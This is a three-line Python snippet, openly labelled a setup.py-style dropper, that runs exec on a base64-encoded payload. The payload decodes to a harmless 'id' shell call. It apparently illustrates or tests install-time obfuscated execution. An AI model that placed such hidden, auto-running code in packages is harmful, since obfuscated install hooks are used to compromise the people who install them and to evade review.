# setup.py-style dropper: the install step runs a base64 payload.
import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
